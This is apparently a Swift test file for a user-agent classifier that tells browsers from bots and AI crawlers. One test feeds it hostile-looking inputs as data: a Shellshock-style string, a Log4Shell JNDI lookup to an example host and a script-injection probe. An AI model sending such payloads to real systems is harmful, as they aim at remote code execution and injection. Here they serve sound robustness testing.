import Foundation
import Testing

@testable import WebConnector

@Suite struct UserAgentTests {
    private static let crawlers = "../shared/corpora/analytics/crawler-user-agents/crawler-user-agents.json"
    /// Browsers of many makers and years, and apps and devices whose names look like a machine's, one a line.
    private static let browsers = Bundle.module.bundleURL.appending(path: "Fixtures/browsers.txt")

    private static func browserFields() throws -> [String] {
        try String(contentsOf: browsers, encoding: .utf8).split(separator: "\n").map(String.init)
    }

    @Test func `At least 99 in 100 browsers are persons`() throws {
        let fields = try Self.browserFields()
        let wrong = fields.filter { UserAgent($0).kind != .person }
        print("browsers taken for persons: \(fields.count - wrong.count) of \(fields.count)")
        #expect(fields.count >= 400)
        #expect(wrong.count * 100 <= fields.count, "\(wrong.joined(separator: "\n"))")
    }

    private struct Crawler: Decodable {
        let instances: [String]
    }

    @Test(.enabled(if: FileManager.default.fileExists(atPath: crawlers)))
    func `At least 99 in 100 known machines are not persons`() throws {
        let data = try Data(contentsOf: URL(filePath: Self.crawlers))
        let fields = try JSONDecoder().decode([Crawler].self, from: data).flatMap(\.instances)
        let wrong = fields.filter { UserAgent($0).kind == .person }
        print("machines told from persons: \(fields.count - wrong.count) of \(fields.count)")
        #expect(fields.count > 2_000)
        #expect(wrong.count * 100 <= fields.count, "\(wrong.joined(separator: "\n"))")
    }

    @Test(.enabled(if: FileManager.default.fileExists(atPath: crawlers)))
    func `The fields of the known machines of AI are of the right kind`() throws {
        let data = try Data(contentsOf: URL(filePath: Self.crawlers))
        let fields = try JSONDecoder().decode([Crawler].self, from: data).flatMap(\.instances)
        let expected: [(name: String, kind: UserAgent.Kind)] = [
            ("GPTBot", .aiCrawler), ("OAI-SearchBot", .aiCrawler), ("ClaudeBot", .aiCrawler), ("CCBot", .aiCrawler),
            ("Bytespider", .aiCrawler), ("Google-Extended", .aiCrawler), ("meta-externalagent", .aiCrawler),
            ("PerplexityBot", .aiCrawler), ("Amazonbot", .aiCrawler), ("cohere-ai", .aiCrawler),
            ("ChatGPT-User", .aiFetcher), ("Claude-User", .aiFetcher), ("Perplexity-User", .aiFetcher),
            ("MistralAI-User", .aiFetcher), ("meta-externalfetcher", .aiFetcher),
        ]
        for (name, kind) in expected {
            let own = fields.filter { $0.contains(name + "/") || $0 == name || $0.hasSuffix(name) }
            #expect(!own.isEmpty, "\(name)")
            for field in own {
                #expect(UserAgent(field).kind == kind, "\(field)")
                #expect(UserAgent(field).name == name, "\(field)")
            }
        }
    }

    @Test(arguments: [
        ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", UserAgent.Kind.bot, "AhrefsBot"),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
            .aiCrawler, "GPTBot"
        ),
        ("curl/8.5.0", .bot, "curl"), ("python-requests/2.32.3", .bot, "python-requests"),
        ("Go-http-client/2.0", .bot, "Go-http-client"), ("WhatsApp/2.23.20.0 A", .bot, "WhatsApp"),
        ("NobodysAI-User/1.0 (+https://nobody.example/agent)", .aiFetcher, "NobodysAI-User"),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/128.0.0.0 Safari/537.36",
            .bot, "HeadlessChrome"
        ),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36 PageWatch/1.2",
            .bot, "PageWatch"
        ),
    ])
    func `A machine is named`(field: String, kind: UserAgent.Kind, name: String) {
        let agent = UserAgent(field)
        #expect(agent.kind == kind)
        #expect(agent.name == name)
        #expect(agent.system == nil)
        #expect(agent.device == .other)
    }

    @Test(
        arguments: [
            (
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36 Edg/128.0.0.0",
                "Edge", "Windows", UserAgent.Device.desktop
            ),
            (
                "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:130.0) Gecko/20100101 Firefox/130.0", "Firefox",
                "macOS", .desktop
            ),
            (
                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
                "Safari", "iOS", .phone
            ),
            (
                "Mozilla/5.0 (Linux; Android 13; CUBOT TAB 30) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36",
                "Chrome", "Android", .tablet
            ),
            (
                "Mozilla/5.0 (Linux; Android 12; Talkbot T9) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
                "Samsung Internet", "Android", .phone
            ),
            (
                "Mozilla/5.0 (SMART-TV; LINUX; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) 76.0.3809.146/6.0 TV Safari/537.36",
                nil, "Tizen", .television
            ),
            (
                "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36",
                "Chrome", "ChromeOS", .desktop
            ),
            ("Mozilla/5.0 (PlayStation 4 11.00) AppleWebKit/605.1.15 (KHTML, like Gecko)", nil, "PlayStation", .other),
            (
                "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Tablet PC 2.0)", "Internet Explorer", "Windows",
                .desktop
            ),
            ("okhttp/4.12.0", "okhttp", nil, .other),
        ] as [(String, String?, String?, UserAgent.Device)])
    func `A browser is named, with its system and device`(
        field: String, name: String?, system: String?, device: UserAgent.Device
    ) {
        let agent = UserAgent(field)
        #expect(agent.kind == .person)
        #expect(agent.name == name)
        #expect(agent.system == system)
        #expect(agent.device == device)
    }

    @Test func `Whatever browser a machine borrows, its own words after it give it away`() throws {
        for field in try Self.browserFields() {
            #expect(UserAgent(field + " (compatible; Examplebot/1.0; +http://example.com/bot.html)").kind == .bot)
            #expect(UserAgent(field + " ExampleCrawler/2.1").kind == .bot, "\(field)")
            #expect(UserAgent(field + " (+https://example.com)").kind == .bot, "\(field)")
            #expect(UserAgent(field + " ClaudeBot/1.0").kind == .aiCrawler, "\(field)")
        }
    }

    @Test(arguments: [
        "", " ", "-", "\"\"", "...", "Mozilla", "Mozilla/5.0", "Mozilla/5.0 ()", "((((", "))))", "[[[[",
        "\u{0}\u{1}\u{2}",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "test", "null", "() { :; }; /bin/true",
        "${jndi:ldap://example.com/a}",
        "<script>alert(1)</script>",
        "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 <b> Chrome/100.0.0.0 Safari/537.36",
    ])
    func `An empty or absurd field is a machine's`(field: String) {
        #expect(UserAgent(field).kind == .bot)
    }

    @Test func `Only the first kibibyte is read`() throws {
        let field = try #require(Self.browserFields().first)
        let padded = field + String(repeating: " ", count: UserAgentScan.limit - field.utf8.count)
        #expect(UserAgent(padded + " Examplebot/1.0") == UserAgent(field))
        #expect(UserAgent(String(repeating: "(", count: 1_000_000)).kind == .bot)
        #expect(UserAgent(String(repeating: "a/", count: 1_000_000)).kind == .bot)
    }

    @Test func `Torn and spoilt fields are judged, the same each time`() throws {
        let fields = try Self.browserFields()
        var state: UInt64 = 0x5eed
        func next(_ bound: Int) -> Int {
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            return Int(state >> 33) % bound
        }
        var machines = 0
        for _ in 0..<5_000 {
            var bytes = Array(fields[next(fields.count)].utf8)
            for _ in 0...next(4) where !bytes.isEmpty {
                switch next(3) {
                case 0: bytes[next(bytes.count)] = UInt8(next(256))
                case 1: bytes.removeLast(next(bytes.count + 1))
                default: bytes.insert(contentsOf: Array("();,[]/".utf8), at: next(bytes.count + 1))
                }
            }
            let text = String(decoding: bytes, as: UTF8.self)
            let agent = UserAgent(text)
            #expect(agent == UserAgent(text))
            if agent.kind != .person {
                machines += 1
                #expect(agent.system == nil)
            }
        }
        #expect((1..<5_000).contains(machines))
    }
}
